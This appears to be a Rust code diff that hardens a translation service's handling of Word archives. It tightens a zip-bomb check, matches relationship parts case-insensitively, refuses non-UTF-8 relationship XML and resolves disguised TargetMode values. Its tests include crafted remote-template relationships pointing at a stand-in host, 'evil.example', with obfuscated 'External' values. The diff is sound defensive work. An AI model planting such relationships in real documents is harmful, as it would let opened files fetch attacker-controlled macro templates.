@@ -37,11 +37,14 @@ struct Inflation {
     left: u64,
     inflated: u64,
     compressed: u64,
+    /// The whole file's size: entries that overlap in the archive cannot claim more
+    /// compressed bytes than the file holds.
+    file_bytes: u64,
 }
 
 impl Inflation {
-    fn new() -> Self {
-        Inflation { left: MAX_TOTAL_BYTES, inflated: 0, compressed: 0 }
+    fn new(file_bytes: u64) -> Self {
+        Inflation { left: MAX_TOTAL_BYTES, inflated: 0, compressed: 0, file_bytes: file_bytes.max(1) }
     }
 
     /// Count one entry read; refused when all read so far inflates past [`MAX_TOTAL_RATIO`]
@@ -49,7 +52,7 @@ impl Inflation {
     fn add(&mut self, inflated: u64, compressed: u64) -> Result<(), String> {
         self.left = self.left.saturating_sub(inflated);
         self.inflated += inflated;
-        self.compressed += compressed.max(1);
+        self.compressed = (self.compressed + compressed.max(1)).min(self.file_bytes);
         if self.inflated > RATIO_FLOOR && self.inflated / self.compressed > MAX_TOTAL_RATIO {
             return Err(format!(
                 "the file's parts inflate {}-fold together: it looks like a zip bomb",
@@ -89,7 +92,7 @@ pub fn extract(flavour: Flavour, bytes: &[u8]) -> Result<String, String> {
             return Err(format!("the file has an entry whose name leaves the archive ({:?})", shorten(&name)));
         }
     }
-    let mut budget = Inflation::new();
+    let mut budget = Inflation::new(bytes.len() as u64);
     match flavour {
         Flavour::Word if archive.index_for_name("word/document.xml").is_none() => {
             return Err("this zip is not a Word document: it has no word/document.xml".into())
@@ -473,7 +476,7 @@ pub fn rebuild(flavour: Flavour, bytes: &[u8], translated: &[String]) -> Result<
     if archive.len() > MAX_ENTRIES {
         return Err(format!("the file holds {} entries, more than are read", archive.len()));
     }
-    let mut budget = Inflation::new();
+    let mut budget = Inflation::new(bytes.len() as u64);
     let mut rewritten = Vec::new();
     let mut next = 0usize;
     for part in text_parts(flavour, &archive) {
@@ -496,8 +499,13 @@ pub fn rebuild(flavour: Flavour, bytes: &[u8], translated: &[String]) -> Result<
     }
     // What opening the file would fetch from elsewhere (a remote template, a linked image or
     // frame) is pointed nowhere: staff may open a user's rebuilt file. Links stay links.
-    let rels: Vec<String> =
-        archive.file_names().flatten().filter(|name| name.ends_with(".rels")).map(|name| name.into_owned()).collect();
+    // Part names are case-insensitive (OPC): `.RELS` is a relationships part too.
+    let rels: Vec<String> = archive
+        .file_names()
+        .flatten()
+        .filter(|name| name.to_ascii_lowercase().ends_with(".rels"))
+        .map(|name| name.into_owned())
+        .collect();
     for name in rels {
         let Some(xml) = read_entry(&mut archive, &name, &mut budget)? else { continue };
         if let Some(xml) = without_remote_fetches(&xml)? {
@@ -596,17 +604,25 @@ const NOWHERE: &str = "about:blank";
 /// (anything but a hyperlink: a template, an image, a frame, an OLE object) pointed at
 /// [`NOWHERE`]; `None` when it has none.
 fn without_remote_fetches(xml: &[u8]) -> Result<Option<Vec<u8>>, String> {
+    // Read as Word reads it, or not at all: UTF-16 (or anything not UTF-8) would parse here as
+    // something else than what Word sees, so it is refused rather than copied unread.
+    let unreadable = || "the file's relationships are not UTF-8 XML; download the Markdown instead".to_string();
+    if std::str::from_utf8(xml).is_err() || xml.contains(&0) {
+        return Err(unreadable());
+    }
     let mut writer = quick_xml::Writer::new(Vec::with_capacity(xml.len()));
     let mut changed = false;
     let mut failed = false;
     walk_xml(xml, |step, event| {
         let remote = match &step {
             XmlStep::Open(e, _) if e.local_name().as_ref() == b"Relationship" => {
+                // Values as Word reads them: entities and character references resolved.
                 let attr = |key: &[u8]| {
-                    e.attributes()
-                        .flatten()
-                        .find(|a| a.key.local_name().as_ref() == key)
-                        .map(|a| String::from_utf8_lossy(&a.value).into_owned())
+                    e.attributes().flatten().find(|a| a.key.local_name().as_ref() == key).map(|a| {
+                        a.unescape_value()
+                            .map(|v| v.trim().to_string())
+                            .unwrap_or_else(|_| String::from_utf8_lossy(&a.value).into_owned())
+                    })
                 };
                 let external = attr(b"TargetMode").is_some_and(|m| m.eq_ignore_ascii_case("external"));
                 let hyperlink = attr(b"Type").is_some_and(|t| t.ends_with("/hyperlink"));
@@ -659,6 +675,17 @@ mod tests {
         assert!(safe.contains("https://example.org/") && safe.contains(r#"Target="styles.xml""#), "{safe}");
         let plain = br#"<Relationships><Relationship Id="rId3" Type="x/styles" Target="styles.xml"/></Relationships>"#;
         assert_eq!(without_remote_fetches(plain).unwrap(), None);
+        // Written the ways Word still reads as external: a character reference, spaces.
+        for mode in ["&#69;xternal", " External ", "EXTERNAL"] {
+            let sneaky = format!(
+                r#"<Relationships><Relationship Id="rId1" Type="x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="{mode}"/></Relationships>"#
+            );
+            let safe = String::from_utf8(without_remote_fetches(sneaky.as_bytes()).unwrap().expect(mode)).unwrap();
+            assert!(!safe.contains("evil.example"), "{mode}: {safe}");
+        }
+        // Not UTF-8 (here UTF-16): refused, never copied unread.
+        let utf16: Vec<u8> = "<Relationships/>".encode_utf16().flat_map(u16::to_le_bytes).collect();
+        assert!(without_remote_fetches(&utf16).is_err());
     }
 
     #[test]
